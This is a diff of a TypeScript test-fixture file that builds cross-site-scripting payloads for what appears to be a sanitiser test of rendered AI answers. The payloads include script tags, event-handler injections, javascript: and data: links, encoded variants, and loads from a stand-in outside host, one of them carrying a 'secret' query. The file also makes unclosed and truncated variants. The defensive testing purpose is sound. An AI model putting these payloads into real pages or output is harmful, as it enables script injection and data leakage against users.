@@ -1,57 +1,7 @@
-/** Ways in which text has become script elsewhere, each in several places of an answer. */
+/** The texts with which an answer tries to become script: every seed in several places of it. */
+import { HTML, MARKDOWN, MATHS } from "./seeds.ts";
 
-const FOREIGN = "https://outside.invalid";
-
-const SEEDS = [
-  "<script>window.hacked=1</script>",
-  "<ScRiPt src=https://outside.invalid/x.js></sCrIpT>",
-  "<img src=x onerror=window.hacked=1>",
-  `<img src="${FOREIGN}/p.png">`,
-  "<img/src=x/onerror=window.hacked=1>",
-  '<img src="x" onerror="window.hacked=1"',
-  "<svg/onload=window.hacked=1>",
-  "<svg><script>window.hacked=1</script></svg>",
-  "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
-  "<math><mtext></mtext><mglyph><style><img src=x onerror=window.hacked=1>",
-  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
-  `<iframe src="${FOREIGN}"></iframe>`,
-  "<body onload=window.hacked=1>",
-  "<details open ontoggle=window.hacked=1>",
-  "<video><source onerror=window.hacked=1></video>",
-  "<input autofocus onfocus=window.hacked=1>",
-  "<form action=javascript:window.hacked=1><button>x</button></form>",
-  `<link rel=stylesheet href="${FOREIGN}/x.css">`,
-  `<style>@import url(${FOREIGN}/x.css);</style>`,
-  `<div style="background:url(${FOREIGN}/x.png)">x</div>`,
-  `<meta http-equiv=refresh content="0;url=${FOREIGN}">`,
-  `<base href="${FOREIGN}/">`,
-  `<object data="${FOREIGN}/x"></object><embed src="${FOREIGN}/x">`,
-  "<!--><img src=x onerror=window.hacked=1>-->",
-  "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
-  "<a href=javascript:window.hacked=1>x</a>",
-  "[x](javascript:window.hacked=1)",
-  "[x](java\tscript:window.hacked=1)",
-  "[x](&#106;avascript:window.hacked=1)",
-  "[x](&#x6A;avascript&colon;window.hacked=1)",
-  "[x](JAVASCRIPT:window.hacked=1)",
-  "[x](data:text/html,<script>window.hacked=1</script>)",
-  "[x](vbscript:x)",
-  "<javascript:window.hacked=1>",
-  '[x](https://ok.invalid "onmouseover=window.hacked=1")',
-  `![x](${FOREIGN}/p.png?secret=1)`,
-  `![x][ref]\n\n[ref]: ${FOREIGN}/p.png`,
-  "![x](javascript:window.hacked=1)",
-  `![x](//outside.invalid/p.png)`,
-  "$\\href{javascript:window.hacked=1}{x}$",
-  `$\\includegraphics{${FOREIGN}/p.png}$`,
-  "$\\unknown{<img src=x onerror=window.hacked=1>}$",
-  "$$\\begin{broken}<script>window.hacked=1</script>$$",
-  "`</code><script>window.hacked=1</script>`",
-  '```html"onload="window.hacked=1\n<script>window.hacked=1</script>\n```',
-  "```mermaid\ngraph TD; A[<img src=x onerror=window.hacked=1>]\n```",
-  "&lt;img src=x onerror=window.hacked=1&gt;",
-  "&#60;script&#62;window.hacked=1&#60;/script&#62;",
-];
+export const SEEDS: readonly string[] = [...new Set([...HTML, ...MARKDOWN, ...MATHS])];
 
 const PLACES: ((payload: string) => string)[] = [
   (payload) => payload,
@@ -61,4 +11,41 @@ const PLACES: ((payload: string) => string)[] = [
   (payload) => `| a |\n|---|\n| ${payload.replace(/\n/g, " ")} |`,
 ];
 
-export const PAYLOADS = SEEDS.flatMap((seed) => PLACES.map((place) => place(seed)));
+/** Every seed in every place, a blank line between them. */
+export const PAYLOADS: readonly string[] = SEEDS.flatMap((seed) =>
+  PLACES.map((place) => place(seed)),
+);
+
+/** Never finished: what was opened in one runs on into the next. */
+export const UNCLOSED: readonly string[] = SEEDS.flatMap((seed) =>
+  [0.4, 0.7].map((share) => seed.slice(0, Math.ceil(seed.length * share))),
+);
+
+/** Answers that end in the middle of something. */
+export const CUT_SHORT: readonly string[] = [
+  "```html\n<script>window.hacked=1</script>\n<img src=x onerror=window.hacked=1",
+  "[x](javascript:window.hacked=1",
+  "[x](https://outside.invalid/?q=",
+  "![x](https://outside.invalid/p.png",
+  "$\\href{javascript:window.hacked=1}{x",
+  "$$\\text{<img src=x onerror=window.hacked=1>",
+  "<img src=x onerror=window.hacked=1 ",
+  "<script>window.hacked=1",
+  "<!-- <img src=x onerror=window.hacked=1>",
+  "&#60;script&#62;window.hacked=1&#60;/script&#6",
+  "[x](&#106;avascript:window.hacked=1) [y](&#10",
+  "| a | <img src=x onerror=window.hacked=1> |\n|---|--",
+];
+
+/** The texts in answers of a length that people see, one line between each two. */
+export function answersOf(texts: readonly string[], between: string, length = 8000): string[] {
+  const answers: string[] = [];
+  let held = "";
+  for (const text of texts) {
+    held += held === "" ? text : between + text;
+    if (held.length < length) continue;
+    answers.push(held);
+    held = "";
+  }
+  return held === "" ? answers : [...answers, held];
+}
